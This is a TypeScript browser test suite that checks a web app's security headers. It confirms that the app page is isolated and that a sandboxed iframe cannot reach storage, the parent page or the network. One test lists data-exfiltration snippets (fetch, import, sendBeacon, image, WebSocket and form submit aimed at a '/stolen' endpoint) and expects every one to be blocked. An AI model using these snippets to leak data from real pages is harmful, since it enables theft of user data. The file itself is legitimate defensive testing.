/** What the headers are for, seen in a real browser: the app page is isolated, and the sandbox document can do nothing but compute. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { SANDBOX_FRAME_ALLOW, SANDBOX_FRAME_PATH } from '../app/lib/core/security-headers.ts';
import { hasBrowser, launchBrowser } from './testing/browser.ts';
import { SMALL_BUILD, startTestServer, type TestServer } from './testing/test-server.ts';

// Real processes, sockets and browsers on a machine that may be busy: a limit against hanging, not a measurement.
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

/** Evaluates what it is sent, as the real frame's broker does for a program's worker. */
const FRAME = `<!doctype html><script>
addEventListener('message', async ({ data }) => {
  const result = await (0, eval)(data).catch((cause) => 'refused: ' + cause.name);
  parent.postMessage({ result }, '*');
});
parent.postMessage('loaded', '*');
</script>`;

const PROBE = `try { probed = eval('"evaluated"'); } catch (cause) { probed = cause.name; }`;

describe.skipIf(!hasBrowser)('in Chromium', () => {
  let server: TestServer;
  let browser: Browser;
  let page: Page;
  let receiver: Receiver;
  beforeAll(async () => {
    [server, browser, receiver] = await Promise.all([
      startTestServer({
        files: { ...SMALL_BUILD, 'sandbox/frame.html': FRAME, 'probe.js': PROBE },
      }),
      launchBrowser(),
      startReceiver(),
    ]);
    page = await browser.newPage();
    await page.goto(server.url);
  });
  afterAll(async () => {
    await browser.close();
    await server.close();
    receiver.close();
  });

  /** Runs `code`, an async function body, in a sandbox document embedded by the app page. */
  const inSandbox = (code: string): Promise<unknown> =>
    page.evaluate(
      ({ path, allow, body }) =>
        new Promise((resolve) => {
          const frame = document.createElement('iframe');
          frame.allow = allow;
          frame.src = path;
          addEventListener('message', function heard(event: MessageEvent<unknown>) {
            if (event.source !== frame.contentWindow) return;
            if (event.data === 'loaded')
              return frame.contentWindow?.postMessage(`(async () => { ${body} })()`, '*');
            removeEventListener('message', heard);
            frame.remove();
            resolve((event.data as { result: unknown }).result);
          });
          document.body.append(frame);
        }),
      { path: SANDBOX_FRAME_PATH, allow: SANDBOX_FRAME_ALLOW, body: code },
    );

  test('the app page is isolated, runs its own inline script and no other code from text', async () => {
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    expect(await page.evaluate('globalThis.inlineRan')).toBe(true);
    expect(
      await page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'globalThis.injected = true';
        document.body.append(script);
        return 'injected' in globalThis;
      }),
    ).toBe(false);
    // In a script of the page's own: what a debugger evaluates is exempt from the policy.
    const evaluates = page.waitForFunction(() => (globalThis as { probed?: string }).probed);
    await page.addScriptTag({ url: '/probe.js' });
    expect(await (await evaluates).jsonValue()).toBe('EvalError');
  });

  test('the app page may compile WASM and open its own sockets, and no others', async () => {
    expect(
      await page.evaluate(async () => {
        const empty = Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0);
        await WebAssembly.instantiate(empty);
        return 'compiled';
      }),
    ).toBe('compiled');
    const opens = (url: string) =>
      page.evaluate(
        (address) =>
          new Promise((resolve) => {
            try {
              const socket = new WebSocket(address);
              socket.onopen = () => resolve('open');
              socket.onerror = () => resolve('refused');
            } catch {
              resolve('refused');
            }
          }),
        url,
      );
    expect(await opens(server.socketUrl('/relay'))).toBe('open');
    expect(await opens(server.socketUrl('/relay').replace('127.0.0.1', 'localhost'))).toBe('refused');
  });

  test('the sandbox has no origin, and has eval, WASM, workers and SharedArrayBuffer', async () => {
    expect(await inSandbox('return self.origin')).toBe('null');
    expect(await inSandbox('return [crossOriginIsolated, new SharedArrayBuffer(8).byteLength]')).toEqual([
      true,
      8,
    ]);
    const worker = `
      const source = 'postMessage([self.origin, crossOriginIsolated, Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1)])';
      const worker = new Worker(URL.createObjectURL(new Blob([source])));
      return new Promise((done) => { worker.onmessage = (event) => done(event.data); worker.onerror = () => done('failed'); });`;
    expect(await inSandbox(worker)).toEqual(['null', true, 'timed-out']);
  });

  test('nothing the sandbox sends arrives anywhere, though the receiver would allow it', async () => {
    const sent = [
      "return fetch(URL_).then(() => 'sent')",
      "await import(URL_); return 'sent'",
      "return navigator.sendBeacon(URL_, 'x'), 'tried'",
      "return new Promise((done) => { const image = new Image(); image.onload = image.onerror = () => done('tried'); image.src = URL_; })",
      "return new Promise((done) => { const socket = new WebSocket(URL_.replace('http', 'ws')); socket.onopen = socket.onerror = () => done('tried'); })",
      "const form = document.createElement('form'); form.action = URL_; document.body.append(form); form.submit(); return 'tried'",
    ];
    for (const code of sent)
      await inSandbox(code.replaceAll('URL_', JSON.stringify(`${receiver.url}/stolen`)));
    expect(receiver.arrived).toEqual([]);
    // The receiver does hear what nothing stops.
    await fetch(`${receiver.url}/heard`);
    expect(receiver.arrived).toEqual(['/heard']);
  });

  test('the app page lets no frame go elsewhere with what it knows', async () => {
    await page.evaluate(
      (url) =>
        new Promise((done) => {
          document.addEventListener('securitypolicyviolation', done, { once: true });
          const frame = document.createElement('iframe');
          frame.src = url;
          document.body.append(frame);
        }),
      `${receiver.url}/stolen`,
    );
    expect(receiver.arrived).not.toContain('/stolen');
  });

  test.for([
    ['storage', 'return localStorage.length', 'refused: SecurityError'],
    ['the page around it', 'return parent.document.title', 'refused: SecurityError'],
    ['a database', "indexedDB.open('x'); return 'opened'", 'refused: SecurityError'],
    ['a window', "return String(open('/'))", 'null'],
  ] as const)('the sandbox cannot reach %s', async ([, code, expected]) => {
    expect(await inSandbox(code)).toBe(expected);
  });

  test('the app cannot be embedded, not even by itself', async () => {
    const embedded = await page.evaluate(
      () =>
        new Promise((resolve) => {
          const frame = document.createElement('iframe');
          frame.src = '/';
          frame.onload = () => resolve(frame.contentDocument?.title ?? 'refused');
          document.body.append(frame);
        }),
    );
    expect(embedded).toBe('refused');
  });
});

interface Receiver {
  readonly url: string;
  readonly arrived: string[];
  close(): void;
}

/** Somebody else's server, which lets every origin send to it. */
async function startReceiver(): Promise<Receiver> {
  const arrived: string[] = [];
  const http = createServer((request, response) => {
    arrived.push(request.url ?? '');
    response.writeHead(200, {
      'access-control-allow-origin': '*',
      'cross-origin-resource-policy': 'cross-origin',
      'cross-origin-embedder-policy': 'require-corp',
      'content-type': 'text/javascript',
    });
    response.end();
  });
  http.on('upgrade', (request, socket) => {
    arrived.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((listening) => http.listen(0, '127.0.0.1', listening));
  const { port } = http.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, arrived, close: () => http.close() };
}
